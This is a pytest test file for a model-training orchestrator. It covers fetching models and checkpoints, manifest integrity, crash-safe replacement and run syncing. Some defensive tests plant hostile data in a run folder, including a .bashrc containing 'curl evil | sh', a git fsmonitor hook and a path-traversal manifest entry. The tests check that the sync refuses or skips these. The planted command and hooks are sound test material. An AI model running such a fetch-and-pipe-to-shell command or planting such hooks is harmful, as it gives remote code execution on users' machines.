"""Fetching models and whole run directories."""

import errno
import itertools
import os
import shutil
import signal
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from cloud_train.errors import ConflictError, CorruptError, NotFoundError, StoreError, UsageError
from cloud_train.orchestrator import results
from cloud_train.orchestrator.connections import store_at
from cloud_train.orchestrator.following import follow
from cloud_train.orchestrator.home import Home
from cloud_train.orchestrator.results import fetch_model
from cloud_train.orchestrator.syncing import sync
from cloud_train.run import layout
from cloud_train.run.ledger import Ledger
from cloud_train.run.manifest import Manifest, verify, write_manifest
from cloud_train.run.record import AttemptStatus
from cloud_train.run.states import Cause, State
from cloud_train.run.view import RunView
from cloud_train.storage.base import Store
from cloud_train.storage.transfer.downloading import Download, download
from cloud_train.storage.transfer.engine import Options, Summary
from cloud_train.storage.transfer.progress import Progress
from cloud_train.storage.transfer.remembered import Memory
from tests.faults import FaultProxy
from tests.orchestrator.conftest import Submit, run_folder
from tests.stores import server_or_skip, use

SAVE = """\
cat > save.py <<'END'
from cloud_train.worker.api import Run
run = Run.from_environment()
for step, accuracy in ((10, 0.5), (20, 0.9), (30, 0.7)):
    with run.checkpoint(step, {"validation/accuracy": accuracy}) as folder:
        (folder / "model.safetensors").write_bytes(b"weights of %d" % step)
        (folder / "state.pt").write_bytes(b"state")
(run.model / "model.safetensors").write_bytes(b"final weights")
(run.model / "inner").mkdir()
(run.model / "inner" / "words.txt").write_text("a b c")
END
$PYTHON save.py"""


@pytest.fixture
def run(home: Home, start: Submit, monkeypatch: pytest.MonkeyPatch) -> RunView:
    monkeypatch.setenv("PYTHON", sys.executable)
    run = start(SAVE)
    end = list(follow(home, run.run_id))[-1].view
    assert end.state == "succeeded", end.message
    return end


def test_the_final_model_is_fetched_complete(home: Home, run: RunView, tmp_path: Path) -> None:
    seen: list[Progress] = []
    fetched = fetch_model(home, run.run_id, tmp_path / "out", report=seen.append)
    assert (tmp_path / "out" / "model.safetensors").read_bytes() == b"final weights"
    assert (tmp_path / "out" / "inner" / "words.txt").read_text() == "a b c"
    assert (fetched.source, fetched.bytes, seen[-1].bytes_done, seen[-1].bytes) == ("model", 18, 18, 18)
    assert set(verify(tmp_path / "out").files) == {"model.safetensors", "inner/words.txt"}
    fetch_model(home, run.run_id, tmp_path / "out")  # an earlier model is replaced


@pytest.mark.parametrize(("which", "weights"), [("best", b"weights of 20"), ("last", b"weights of 30"), ("10", b"weights of 10")])
def test_a_checkpoints_model_is_fetched_without_the_trainers_state(
    home: Home, run: RunView, tmp_path: Path, which: str, weights: bytes
) -> None:
    fetched = fetch_model(home, run.run_id, tmp_path / "out", which)
    assert (tmp_path / "out" / "model.safetensors").read_bytes() == weights
    assert not (tmp_path / "out" / "state.pt").exists()
    assert fetched.step == int(weights.split()[-1])
    verify(tmp_path / "out")


def test_the_fetched_model_names_the_attempt_that_made_it(home: Home, run: RunView, tmp_path: Path) -> None:
    notes: list[str] = []
    assert fetch_model(home, run.run_id, tmp_path / "out", note=notes.append).attempt == 1
    assert notes == []


def succeeded_by_second(home: Home, run: RunView, origin: int | None, resumed_step: int | None) -> None:
    """Rewrite the run as if attempt 1 had been lost, and attempt 2, which began at ``origin``, had succeeded without making a model."""
    second = AttemptStatus(State.RUNNING, started=2e9, heartbeat=2e9, host="b", pid=1, origin=origin, resumed_step=resumed_step)
    (run_folder(run) / "attempts" / "2").mkdir()
    (run_folder(run) / "attempts" / "2" / "status.json").write_bytes(second.ended_with(Cause.SUCCEEDED, "", 2e9).to_json())
    with Ledger(home.ledger_path) as ledger:
        ledger.observed(run.run_id, 2, State.SUCCEEDED, Cause.SUCCEEDED, started=2e9, ended=2e9)


def test_a_model_that_an_overtaken_attempt_published_late_is_refused(home: Home, run: RunView, tmp_path: Path) -> None:
    succeeded_by_second(home, run, origin=0, resumed_step=None)
    with pytest.raises(ConflictError, match="made by attempt 1, but attempt 2 succeeded") as raised:
        fetch_model(home, run.run_id, tmp_path / "out")
    assert "--checkpoint last" in (raised.value.hint or "")
    assert not (tmp_path / "out").exists()
    with pytest.raises(ConflictError, match="made by attempt 1"):
        results.model_folder(home, run.run_id)


def test_a_model_that_the_succeeded_attempt_took_over_is_fetched_and_its_attempt_is_named(home: Home, run: RunView, tmp_path: Path) -> None:
    succeeded_by_second(home, run, origin=1, resumed_step=30)
    notes: list[str] = []
    assert fetch_model(home, run.run_id, tmp_path / "out", note=notes.append).attempt == 1
    assert notes == [f"the model of {run.run_id} was made by attempt 1; attempt 2 continued from it, succeeded, and made no model itself"]


def test_a_model_of_an_earlier_version_is_fetched_without_comparing_attempts(home: Home, run: RunView, tmp_path: Path) -> None:
    (run_folder(run) / "model" / "manifest.json").unlink()
    write_manifest(run_folder(run) / "model", None)
    succeeded_by_second(home, run, origin=0, resumed_step=None)
    assert fetch_model(home, run.run_id, tmp_path / "out").attempt is None


def test_the_model_of_a_run_that_has_not_succeeded_is_fetched_and_its_attempt_is_named(home: Home, run: RunView, tmp_path: Path) -> None:
    with Ledger(home.ledger_path) as ledger:
        ledger.observed(run.run_id, 1, State.INTERRUPTED, Cause.INFRASTRUCTURE, started=2e9, ended=2e9)
    status = run_folder(run) / "attempts" / "1" / "status.json"
    ended = AttemptStatus.from_json(status.read_bytes(), "here").ended_with(Cause.INFRASTRUCTURE, "lost", 2e9)
    status.write_bytes(ended.to_json())
    notes: list[str] = []
    fetch_model(home, run.run_id, tmp_path / "out", note=notes.append)
    assert notes == [f"{run.run_id} has not succeeded (attempt 1: interrupted); its model was made by attempt 1"]


def test_checkpoints_that_an_overtaken_attempt_made_after_that_are_not_offered(home: Home, run: RunView, tmp_path: Path) -> None:
    succeeded_by_second(home, run, origin=1, resumed_step=10)
    assert fetch_model(home, run.run_id, tmp_path / "out", "last").step == 10
    assert fetch_model(home, run.run_id, tmp_path / "best", "best").step == 10
    with pytest.raises(NotFoundError) as raised:
        fetch_model(home, run.run_id, tmp_path / "other", "20")
    assert raised.value.hint == "available steps: 10"


def test_the_last_checkpoint_is_found_without_reading_the_manifests_of_the_others(
    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    read: list[str] = []
    manifest_at = results.manifest_at

    def counted(store: Store, prefix: str) -> Manifest:
        read.append(prefix)
        return manifest_at(store, prefix)

    monkeypatch.setattr(results, "manifest_at", counted)
    assert fetch_model(home, run.run_id, tmp_path / "out", "last").step == 30
    assert [prefix.rpartition("/")[2] for prefix in read] == ["step-00000030"]
    read.clear()
    (run_folder(run) / "checkpoints" / "step-00000030" / "manifest.json").write_text("{")
    assert fetch_model(home, run.run_id, tmp_path / "next", "last").step == 20


def test_checkpoints_are_found_by_the_names_that_a_script_gave_them(home: Home, start: Submit, tmp_path: Path) -> None:
    run = start(
        "cd $CLOUD_TRAIN_CHECKPOINTS\n"
        "for step in 8 58 007; do mkdir .half; echo weights of $step > .half/weights; mv .half step-$step; done\n"
        "exit 3"
    )
    assert list(follow(home, run.run_id))[-1].view.state == "failed"
    for which, step, name in (("last", 58, "58"), ("best", 58, "58"), ("8", 8, "8"), ("7", 7, "007")):
        fetched = fetch_model(home, run.run_id, tmp_path / which, which)
        assert (fetched.step, fetched.source) == (step, f"checkpoints/step-{name}")
        assert (tmp_path / which / "weights").read_text() == f"weights of {name}\n"
    with pytest.raises(NotFoundError, match="no checkpoint of step 9") as raised:
        fetch_model(home, run.run_id, tmp_path / "9", "9")
    assert raised.value.hint == "available steps: 7, 8, 58"
    with pytest.raises(NotFoundError) as raised:
        fetch_model(home, run.run_id, tmp_path / "final")
    assert "--checkpoint last" in (raised.value.hint or "")
    sync(home, run.run_id, tmp_path / "copy")
    (run_folder(run) / "checkpoints" / "step-58" / "weights").write_text("Weights of 58\n")
    with pytest.raises(CorruptError, match="step-58/weights"):
        sync(home, run.run_id, tmp_path / "second")


def test_of_two_names_of_a_step_the_usual_one_counts(home: Home, run: RunView, tmp_path: Path) -> None:
    checkpoints = run_folder(run) / "checkpoints"
    for name in ("step-30", "step-000000000000000030"):
        shutil.copytree(checkpoints / "step-00000020", checkpoints / name)
        assert fetch_model(home, run.run_id, tmp_path / "out", "last").source == "checkpoints/step-00000030"
        assert fetch_model(home, run.run_id, tmp_path / "out", "30").source == "checkpoints/step-00000030"


def test_a_missing_checkpoint_is_an_error_that_lists_the_existing_ones(home: Home, run: RunView, tmp_path: Path) -> None:
    with pytest.raises(NotFoundError) as raised:
        fetch_model(home, run.run_id, tmp_path / "out", "15")
    assert raised.value.hint == "available steps: 10, 20, 30"
    with pytest.raises(UsageError, match="'newest'"):
        fetch_model(home, run.run_id, tmp_path / "out", "newest")
    assert not (tmp_path / "out").exists()


def test_one_flipped_byte_is_detected_and_nothing_is_left(home: Home, run: RunView, tmp_path: Path) -> None:
    weights = run_folder(run) / layout.MODEL / "model.safetensors"
    weights.write_bytes(b"final weighty")
    with pytest.raises(CorruptError, match=r"model\.safetensors"):
        fetch_model(home, run.run_id, tmp_path / "out")
    assert not [path for path in tmp_path.iterdir() if "out" in path.name]


def test_a_manifest_cannot_name_a_file_outside(home: Home, run: RunView, tmp_path: Path) -> None:
    manifest = run_folder(run) / layout.MODEL / "manifest.json"
    manifest.write_text(manifest.read_text().replace("inner/words.txt", "../../escaped.txt"))
    with pytest.raises(CorruptError):
        fetch_model(home, run.run_id, tmp_path / "deep" / "out")
    assert not list(tmp_path.rglob("escaped.txt"))


def test_a_folder_with_other_content_is_left_alone(home: Home, run: RunView, tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.txt").write_text("years of work")
    with pytest.raises(ConflictError, match="mine"):
        fetch_model(home, run.run_id, tmp_path / "mine")
    assert (tmp_path / "mine" / "thesis.txt").read_text() == "years of work"


def test_a_fetched_model_is_replaced_while_it_is_as_it_was_fetched(home: Home, run: RunView, tmp_path: Path) -> None:
    for _ in range(2):
        assert fetch_model(home, run.run_id, tmp_path / "out").folder == tmp_path / "out"
    assert [path.name for path in tmp_path.iterdir() if "out" in path.name] == ["out"]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda folder: (folder / "notes.txt").write_text("mine"), "notes.txt is not a file of the model"),
        (lambda folder: (folder / "inner/notes.txt").write_text("mine"), "inner/notes.txt is not a file of the model"),
        (
            lambda folder: (folder / "model.safetensors").write_bytes(b"my own weights"),
            r"model\.safetensors was changed after it was fetched",
        ),
        (lambda folder: (folder / "link").symlink_to("inner"), "link is not a file of the model"),
        (lambda folder: (folder / "manifest.json").write_text("{}"), "is not a fetched model"),
    ],
)
def test_a_fetched_model_with_work_of_the_user_in_it_is_never_replaced(
    home: Home, run: RunView, tmp_path: Path, change: Callable[[Path], object], words: str
) -> None:
    fetch_model(home, run.run_id, tmp_path / "out")
    change(tmp_path / "out")
    before = {path: path.read_bytes() for path in (tmp_path / "out").rglob("*") if path.is_file()}
    with pytest.raises(ConflictError, match=words):
        fetch_model(home, run.run_id, tmp_path / "out")
    assert {path: path.read_bytes() for path in (tmp_path / "out").rglob("*") if path.is_file()} == before


def test_an_earlier_model_is_there_again_if_the_new_one_cannot_get_its_name(
    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fetch_model(home, run.run_id, tmp_path / "out")
    rename = Path.rename
    calls: list[str] = []

    def fails(self: Path, target: Path) -> Path:
        calls.append(self.name)
        if len(calls) == 2:  # the new one; the earlier one was put aside before
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return rename(self, target)

    monkeypatch.setattr(Path, "rename", fails)
    with pytest.raises(StoreError):
        fetch_model(home, run.run_id, tmp_path / "out")
    assert (tmp_path / "out" / "manifest.json").exists()
    assert list(tmp_path.glob(".out-*")) == []


def test_the_best_and_the_last_checkpoint_have_folders_of_their_own(
    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    names = [fetch_model(home, run.run_id, None, chosen).folder.name for chosen in (None, "best", "last")]
    assert names == [f"{run.run_id}-{kind}" for kind in ("model", "best", "last")]
    step = fetch_model(home, run.run_id, None, "last").step
    assert fetch_model(home, run.run_id, None, str(step)).folder.name == f"{run.run_id}-step-{step}"


def test_a_run_without_a_model_says_so(home: Home, start: Submit, tmp_path: Path) -> None:
    run = start("false")
    list(follow(home, run.run_id))
    with pytest.raises(NotFoundError, match=r"has no final model \(attempt 1: failed\)"):
        fetch_model(home, run.run_id, tmp_path / "out")
    with pytest.raises(NotFoundError, match="no checkpoint yet"):
        fetch_model(home, run.run_id, tmp_path / "out", "best")


def test_syncing_an_unchanged_run_costs_one_listing(home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYTHON", sys.executable)
    server = server_or_skip("s3")
    with FaultProxy(server) as proxy:
        use(server, monkeypatch, proxy.endpoint)
        run = start(f"{SAVE}\necho done", "", f"store={server.new_url()}/runs")
        assert list(follow(home, run.run_id))[-1].view.state == "succeeded"

        def requests_of_a_sync() -> list[tuple[str, bool]]:
            before = len(proxy.records)
            assert (sync(home, run.run_id, tmp_path / "copy").copied == ()) is (before > first)
            return [(record.request.method, "list-type=2" in record.request.target) for record in proxy.records[before:]]

        first = len(proxy.records)
        assert len(requests_of_a_sync()) > 20
        files = {path: path.read_bytes() for path in (tmp_path / "copy").rglob("[!.]*") if path.is_file()}
        assert [requests_of_a_sync() for _ in range(3)] == [[("GET", True)]] * 3
        assert (tmp_path / "copy" / layout.output_log(1)).exists()

        changed = tmp_path / "copy" / layout.output_log(1)
        model = tmp_path / "copy" / layout.MODEL / "model.safetensors"
        for path in (changed, model):
            path.write_bytes(bytes(len(files[path])))
        assert set(sync(home, run.run_id, tmp_path / "copy").copied) == {
            path.relative_to(tmp_path / "copy").as_posix() for path in (changed, model)
        }
        assert {path: path.read_bytes() for path in files} == files


def test_an_object_that_changed_without_changing_its_size_is_copied(
    home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = server_or_skip("s3")
    use(server, monkeypatch)
    run = start("echo hello; echo weights > $CLOUD_TRAIN_MODEL/weights", "", f"store={server.new_url()}/runs")
    assert list(follow(home, run.run_id))[-1].view.state == "succeeded"
    sync(home, run.run_id, tmp_path / "copy")
    store = store_at(run.store)
    (segment,) = [info.key for info in store.list(f"{run.run_id}/{layout.output_log(1)}.") if info.size]
    store.put(segment, b"HELLO\n")
    store.put(f"{run.run_id}/extra", b"one")
    assert set(sync(home, run.run_id, tmp_path / "copy").copied) == {layout.output_log(1), "extra"}
    store.put(f"{run.run_id}/extra", b"two")
    assert sync(home, run.run_id, tmp_path / "copy").copied == ("extra",)
    assert (tmp_path / "copy" / layout.output_log(1)).read_bytes() == b"HELLO\n"


def test_a_second_sync_copies_only_what_changed(home: Home, run: RunView, tmp_path: Path) -> None:
    first = sync(home, run.run_id, tmp_path / "copy")
    there = {path.relative_to(run_folder(run)).as_posix(): path.read_bytes() for path in run_folder(run).rglob("[!.]*") if path.is_file()}
    copy = {path.relative_to(first.folder).as_posix(): path.read_bytes() for path in first.folder.rglob("[!.]*") if path.is_file()}
    assert copy == there
    second = sync(home, run.run_id, tmp_path / "copy")
    assert (second.copied, second.unchanged) == ((), len(there))
    (tmp_path / "copy" / layout.status(1)).write_bytes(b"x" * len(there[layout.status(1)]))  # the same size, and newer
    third = sync(home, run.run_id, tmp_path / "copy")
    assert third.copied == (layout.status(1),)
    assert (tmp_path / "copy" / layout.status(1)).read_bytes() == there[layout.status(1)]


def test_a_fetched_model_that_is_changed_during_the_download_is_not_replaced(
    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fetch_model(home, run.run_id, tmp_path / "out", "10")

    def slow(store: Store, files: list[Download], options: Options, memory: Memory | None) -> Summary:
        (tmp_path / "out" / "model.safetensors").write_bytes(b"tuned by hand")
        return download(store, files, options, memory)

    monkeypatch.setattr(results, "download", slow)
    with pytest.raises(ConflictError, match=r"model\.safetensors was changed after it was fetched"):
        fetch_model(home, run.run_id, tmp_path / "out", "20")
    assert (tmp_path / "out" / "model.safetensors").read_bytes() == b"tuned by hand"
    assert [path.name for path in tmp_path.glob(".out*")] == []


def killed_before(number: int, work: Callable[[], object]) -> bool:
    """Do the work in a process that is killed before it renames or deletes for the ``number``-th time; whether it was."""
    child = os.fork()
    if child == 0:
        left = iter(range(number))

        def hook(event: str, _: object) -> None:
            if event in ("os.rename", "os.remove", "os.rmdir") and next(left, None) is None:
                os.kill(os.getpid(), signal.SIGKILL)

        sys.addaudithook(hook)
        work()
        os._exit(0)
    _, status = os.waitpid(child, 0)
    return status != 0


def test_a_fetch_killed_at_any_point_of_the_exchange_is_healed_by_the_next(tmp_path: Path) -> None:
    for name in ("old", "new"):
        write(tmp_path / name, name)
    weights: set[str] = set()
    for number in itertools.count():
        target = tmp_path / "out"
        shutil.copytree(tmp_path / "old", target)
        shutil.copytree(tmp_path / "new", tmp_path / "arrived")
        was_killed = killed_before(number, lambda: results._exchange(tmp_path / "arrived", target))  # noqa: B023
        with pytest.raises(CorruptError), results._folder_that_appears_whole(target, kept_when_cut=False):
            raise CorruptError("this download fails")
        verify(target)
        weights.add((target / "model.safetensors").read_text())
        assert [path.name for path in tmp_path.glob(".out*")] == []
        shutil.rmtree(target)
        shutil.rmtree(tmp_path / "arrived", ignore_errors=True)
        if not was_killed:
            break
    assert number > 4
    assert weights == {"old", "new"}


def write(folder: Path, weights: str) -> None:
    """A fetched model."""
    (folder / "inner").mkdir(parents=True)
    (folder / "model.safetensors").write_text(weights)
    (folder / "inner" / "words.txt").write_text(weights)
    write_manifest(folder, None)


def test_a_folder_of_the_user_where_an_earlier_model_would_be_kept_is_left_alone(home: Home, run: RunView, tmp_path: Path) -> None:
    (tmp_path / ".out.before").mkdir()
    (tmp_path / ".out.before" / "mine.txt").write_text("mine")
    with pytest.raises(ConflictError, match=r"\.out\.before exists and is not a fetched model"):
        fetch_model(home, run.run_id, tmp_path / "out")
    assert (tmp_path / ".out.before" / "mine.txt").read_text() == "mine"


@pytest.mark.parametrize("record", [None, b"", b"{}", b'{"run_id": "other-261130-091500-k3f9"}', b"\xff", "link", "pipe"])
def test_a_sync_into_a_folder_with_other_content_is_refused(home: Home, run: RunView, tmp_path: Path, record: bytes | str | None) -> None:
    (run_folder(run) / ".bashrc").write_text("curl evil | sh")
    (run_folder(run) / ".ssh").mkdir()
    (run_folder(run) / ".ssh" / "authorized_keys").write_text("theirs")
    mine = tmp_path / "mine"
    (mine / ".ssh").mkdir(parents=True)
    (mine / ".bashrc").write_text("mine")
    (mine / ".ssh" / "authorized_keys").write_text("mine")
    if isinstance(record, bytes):
        (mine / layout.RUN).write_bytes(record)
    elif record == "link":
        (mine / layout.RUN).symlink_to(run_folder(run) / layout.RUN)
    elif record == "pipe":
        os.mkfifo(mine / layout.RUN)
    names = sorted(path.name for path in mine.iterdir())
    with pytest.raises(ConflictError, match=r"mine is not empty and is not a copy of") as raised:
        sync(home, run.run_id, mine)
    assert (raised.value.exit_code, raised.value.hint) == (9, "name a new or empty folder with --to")
    assert sorted(path.name for path in mine.iterdir()) == names
    assert {path.read_text() for path in (mine / ".bashrc", mine / ".ssh" / "authorized_keys")} == {"mine"}


def test_a_sync_into_a_file_is_refused(home: Home, run: RunView, tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine")
    with pytest.raises(ConflictError, match=r"cannot copy into .*mine: Not a directory"):
        sync(home, run.run_id, tmp_path / "mine")


def test_a_sync_into_an_empty_folder_or_over_temporary_files_starts_from_scratch(home: Home, run: RunView, tmp_path: Path) -> None:
    (tmp_path / "copy").mkdir()
    (tmp_path / "copy" / ".cloud-train-abcd").write_bytes(b"half of a ru")
    assert layout.RUN in sync(home, run.run_id, tmp_path / "copy").copied


@pytest.mark.parametrize("whole", [0, 1, 2])
def test_an_interrupted_copy_is_continued(home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: int) -> None:
    calls = itertools.count()

    def cut(store: Store, files: list[Download], options: Options, memory: Memory) -> Summary:
        if next(calls) == whole:
            raise KeyboardInterrupt
        return download(store, files, options, memory)

    monkeypatch.setattr(results, "download", cut)
    with pytest.raises(KeyboardInterrupt):
        sync(home, run.run_id, tmp_path / "copy")
    monkeypatch.undo()
    assert (tmp_path / "copy" / layout.RUN).exists() is (whole > 0)  # which goes first, and alone
    assert (tmp_path / "copy" / layout.status(1)).exists() is (whole > 1)
    assert (layout.RUN in sync(home, run.run_id, tmp_path / "copy").copied) is (whole == 0)
    assert sync(home, run.run_id, tmp_path / "copy").copied == ()


def test_hidden_objects_at_the_top_of_a_run_are_not_copied(home: Home, run: RunView, tmp_path: Path) -> None:
    config = run_folder(run) / ".git" / "config"
    config.parent.mkdir()
    config.write_text("[core]\n\tfsmonitor = evil\n")
    (run_folder(run) / ".envrc").write_text("evil")
    (run_folder(run) / "attempts" / "1" / ".kept").write_text("the program's own")
    synced = sync(home, run.run_id, tmp_path / "copy")
    assert {path.name for path in (tmp_path / "copy").glob(".*")} == {".cloud-train-copy.json"}
    assert {(key.partition("/")[2], why) for key, why in synced.skipped} == {
        (name, "hidden files do not belong to a run") for name in (".git/config", ".envrc")
    }
    assert (tmp_path / "copy" / "attempts" / "1" / ".kept").exists()


def test_a_sync_verifies_files_listed_in_a_manifest(home: Home, run: RunView, tmp_path: Path) -> None:
    (run_folder(run) / layout.MODEL / "model.safetensors").write_bytes(b"final weighty")
    with pytest.raises(CorruptError, match=r"model\.safetensors"):
        sync(home, run.run_id, tmp_path / "copy")


def test_a_sync_onto_the_run_directory_itself_is_refused(home: Home, run: RunView, write_job: Callable[..., Path]) -> None:
    with pytest.raises(UsageError, match="the run directory itself"):
        sync(home, run.run_id, run_folder(run))
